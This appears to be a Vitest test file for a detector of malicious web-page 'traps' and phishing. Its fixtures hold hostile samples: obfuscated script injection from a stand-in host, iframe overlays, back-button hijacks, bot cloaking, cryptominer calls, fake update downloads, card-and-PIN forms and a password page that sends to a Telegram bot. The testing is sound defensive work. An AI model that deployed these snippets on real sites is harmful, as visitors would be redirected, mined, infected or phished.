import { describe, expect, it } from "vitest";
import { listPhishingReasons, listTrapReasons } from "./find-traps.ts";
import { readPage } from "./read-page.ts";
import { readProgram, readTraps } from "./read-traps.ts";
import { sumOf } from "./reason.ts";

const here = "https://www.here.org/lessons";
const encoded = btoa("https://cdn.there.org/u.js");

describe("what scripts do behind visitors' backs", () => {
  it.each([
    [
      "a frame in place of the page",
      "document.body.innerHTML='<iframe src=https://a.there.org/de/></iframe>'",
    ],
    [
      "a frame over the window",
      'document.write(\'<iframe src="//there.org/" style="position:fixed;inset:0"></iframe>\')',
    ],
    [
      "a script whose address is in base64",
      `s=createElement("script");s.src=atob("${encoded}")+"?"+Date.now();`,
    ],
    [
      "the same, by a name",
      `var u=atob("${encoded}"), s=document.createElement('script');\ns.src = u;\ndocument.head.append(s)`,
    ],
    [
      "a way back that leads on",
      "history.pushState(null,'',location.href);onpopstate=function(){location='https://go.there.org/b?c='+id}",
    ],
    [
      "a way back that leads on, as listened for",
      "addEventListener('popstate', () => { location.replace('https://there.org/offer') })",
    ],
    [
      "a hidden frame in place of the page",
      `documentElement.innerHTML=atob("${btoa("<iframe src='https://there.org/'>")}")`,
    ],
    [
      "a script whose address is in numbers",
      "l=['\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x74\\x68\\x65\\x72\\x65\\x2e\\x6f\\x72\\x67\\x2f'];createElement('script').src=l[0]",
    ],
    ["one that is written", `var u=atob('${encoded}');document.write('<script src="'+u+'"><\\/script>')`],
    [
      "one that is made of numbers",
      `eval(String.fromCharCode(${[..."s=createElement('script');s.src='https://there.org/a.js'"].map((one) => one.charCodeAt(0))}))`,
    ],
    ["any press", "document.addEventListener('click', () => { window.open('https://hot.there.org/?z=1') })"],
    ["people alone", "if(!/bot/i.test(navigator.userAgent)){window.location.replace('https://there.org/')}"],
    [
      "people alone, after robots were let go",
      "if(/crawl|spider|googlebot/i.test(navigator.userAgent)) return; location.href='https://there.org/x'",
    ],
    ["who is not driven by a program", "if(!navigator.webdriver){location='https://there.org/a?b'}"],
    ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
  ])("%s", (_, script) => {
    expect(readTraps(script, here)).toEqual([expect.stringMatching(/ there\.org$/)]);
  });

  it.each([
    "var m=new CoinHive.Anonymous('gk1hQ8',{throttle:0.2});m.start();",
    "new Client.Anonymous('7f', {throttle: 0.5, c: 'w'}).start()",
    "pool.connect('stratum+tcp://pool.there.org:3333')",
  ])("coins reckoned for others: %s", (script) => {
    expect(readTraps(script, here)).toEqual(["a script reckons coins on visitors' computers"]);
  });

  it.each([
    [
      "a film in a box",
      'box.innerHTML = \'<iframe src="https://www.youtube.com/embed/a" width="100%"></iframe>\'',
    ],
    ["a frame of its own", "document.body.innerHTML = '<iframe src=\"/quiz\"></iframe>'"],
    ["a part of its own", "fetch('/news').then(r=>r.text()).then(t=>{document.body.innerHTML=t})"],
    ["a counter", "s=createElement('script');s.src='https://www.google-analytics.com/analytics.js';"],
    [
      "comments under a name of their own",
      "var n='here-org', d=document, s=d.createElement('script');s.src='https://'+n+'.disqus.com/embed.js';",
    ],
    ["views within the page", "window.onpopstate = () => { location = '/list' }"],
    ["notices of its own", "button.onclick = () => Notification.requestPermission().then(save)"],
    [
      "a button for sharing",
      "document.addEventListener('click', (e) => { if (e.target.id == 's') window.open('https://there.org/share') })",
    ],
    [
      "notices, and a login beside them",
      "bell.onclick=()=>Notification.requestPermission().then(p=>{save(p)});function go(){location='https://there.org/'}",
    ],
    [
      "a map over the window",
      "f=createElement('iframe');f.src='https://maps.there.org/';f.style='position:fixed;inset:0'",
    ],
    ["an anonymous visit", "session = new Visit('Anonymous').start()"],
  ])("not %s", (_, script) => {
    expect(readTraps(script, here)).toEqual([]);
  });
});

it("asks about scripts from places whose names say what they are for", () => {
  const weigh = (html: string) => sumOf(listTrapReasons(readPage(html, here)));
  expect(weigh("<p>Lessons</p><script src=//free-porn.club/pop.js></script>")).toBe(2);
  expect(weigh("<p>Lessons</p><script src=https://cdn.jsdelivr.net/npm/a.js></script>")).toBe(0);
});

it("takes a program for a false update, and no script that tells of old browsers", () => {
  const host = (script: string) => readPage(`<p>Lessons</p><script>${script}</script>`, here).programHost;
  expect(host("d.innerHTML='Update Chrome: <a href=https://dl.there.org/Setup.exe>'")).toBe("dl.there.org");
  expect(host("e.src='https://browser-update.org/update.min.js' // browser update")).toBe("");
});

it.each([
  ["Uuenda Chrome", "https://cdn.there.icu/Update.zip", "cdn.there.icu"],
  ["立即更新 Firefox", "https://there.org/d/update.js?x=1", "there.org"],
  ["Download", "https://chrome-updates.there.org/Setup.exe", "chrome-updates.there.org"],
  ["ອັບເດດດຽວນີ້", "/dl/chrome_update_132.apk", "www.here.org"],
  ["Safe exam browser", "/dl/safe-exam-browser-update-3.7.exe", ""],
  ["Update Firefox", "/update/firefox/FirefoxSetup.exe", ""],
  ["School app, update", "/app/school_update.apk", ""],
  ["Browser update", "/browser-update.min.js", ""],
  ["Download Chrome", "https://dl.google.com/update2/ChromeSetup.exe", ""],
  ["How to update Chrome", "https://there.org/update.html", ""],
  ["Updates for your Chromebook", "https://there.org/update.zip", ""],
  ["GeoGebra, update", "https://there.org/update.exe", ""],
  ["Opera unit, updated", "https://there.org/unit.zip", ""],
  ["Zotero for Firefox: update", "https://there.org/zotero.exe", ""],
  ["Cutting edge science", "https://there.org/knowledge-update.zip", ""],
])("takes a link for a false update by its label and address: %s, %s", (label, to, host) => {
  expect(readPage(`<p>Lessons</p><a href="${to}">${label}</a>`, here).programHost).toBe(host);
});

it("asks about a program beside a word on antivirus, its own one too, and believes a short page to be a trap", () => {
  const weigh = (html: string) => sumOf(listTrapReasons(readPage(html, here)));
  const program = '<a href="/files/Reader_en.msix">Reader</a>';
  const word = "<p>Turn off your antivirus before you open it.</p>";
  expect(weigh(program + word)).toBe(3);
  expect(weigh(`${program}${word}<p>${"How pupils read and write. ".repeat(50)}</p>`)).toBe(2);
  expect(weigh(program)).toBe(0);
  // An exam's own browser is stopped by antivirus as well.
  expect(weigh(`${program}${word}<p>Students and teachers find it below, before exams at school.</p>`)).toBe(
    2,
  );
});

it("never asks for a bank's card and its PIN without being a thief's", () => {
  const weigh = (fields: string) =>
    sumOf(listPhishingReasons(readPage(`<p>Lessons</p><form>${fields}</form>`, here), here, ""));
  expect(weigh("<input name=cardnumber><input name=cvv><input name=pin>")).toBe(3);
  expect(weigh("<label>ATM card</label><input name=card><input name=pin type=password>")).toBe(3);
  expect(weigh('<input placeholder="Library card number"><input name=pin>')).toBe(0);
  expect(weigh("<p>Find an ATM near you.</p><input name=user><input name=pin type=password>")).toBe(0);
  expect(weigh("<label>Library card</label><input name=card><input name=pin type=password>")).toBe(0);
  expect(weigh("<input name=cardnumber><input name=cvv>")).toBe(0);
});

describe("a short page that asks for a password", () => {
  const door = (head: string, more = "") =>
    readPage(`${head}<form><input type=password></form>${more}`, here);
  const weigh = (page: ReturnType<typeof door>) => sumOf(listPhishingReasons(page, here, "Lessons"));

  it("and sends it to a chat is a thief's", () => {
    const script = "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>";
    expect(weigh(door("<title>Portal</title>", script))).toBe(4);
    expect(weigh(readPage(`<p>News of the school</p>${script}`, here))).toBe(0);
  });
});

describe("what comes in place of a page", () => {
  const octets = "application/octet-stream";
  it.each([
    ["Setup.exe", "https://there.org/d/Setup.exe", octets, ""],
    ["mod.apk", "https://there.org/get?id=1", octets, 'attachment; filename="mod.apk"'],
    ["%E5%AE%89setup.exe", "https://there.org/s", octets, "attachment; filename*=UTF-8''%E5%AE%89setup.exe"],
    ["Chrome_Update.zip", "https://there.org/Chrome_Update.zip", "application/zip", ""],
    ["get", "https://there.org/get", "application/vnd.android.package-archive", ""],
  ])("is a program: %s", (name, url, type, disposition) => {
    expect(readProgram(url, type, disposition)).toBe(name);
  });

  it.each([
    ["https://there.org/prospectus.pdf", "application/pdf", 'attachment; filename="prospectus.pdf"'],
    ["https://there.org/worksheets.zip", "application/zip", ""],
    ["https://there.org/setup-guide.pdf", "application/pdf", ""],
    ["https://there.org/table", "text/csv", "attachment"],
  ])("is none: %s", (url, type, disposition) => {
    expect(readProgram(url, type, disposition)).toBeUndefined();
  });

  const sent = (script: string) => readTraps(script, here);

  it("asks about what sends phones to strangers, and not to a shop of apps or to the site for phones", () => {
    const script = "if(/Android/i.test(navigator.userAgent)){location='https://there.org/a'}";
    expect(sent(script)).toEqual(["a script sends those who have a phone to there.org"]);
    expect(sent(script.replace("there.org", "m.here.org"))).toEqual([]);
    expect(sent(script.replace("there.org/a", "play.google.com/store/apps"))).toEqual([]);
    expect(sent("if(/MSIE/.test(navigator.userAgent)){location='https://there.org/a'}")).toEqual([]);
  });

  it("does not ask about a script that counts people, on a page with a button to elsewhere", () => {
    const counted = "if(!/bot/i.test(navigator.userAgent)){count(location.href)}";
    expect(sent(`${counted} give.onclick=()=>{location='https://there.org/'}`)).toEqual([]);
  });

  it("asks about a title that only people are shown, and not about one in their language", () => {
    const script = "if(navigator.userAgent.indexOf('spider')<0){document.title='School'}";
    expect(sent(script)).toEqual(["a script shows people another title than robots"]);
    expect(sent("if(navigator.language=='en'){document.title='School'}")).toEqual([]);
  });
});
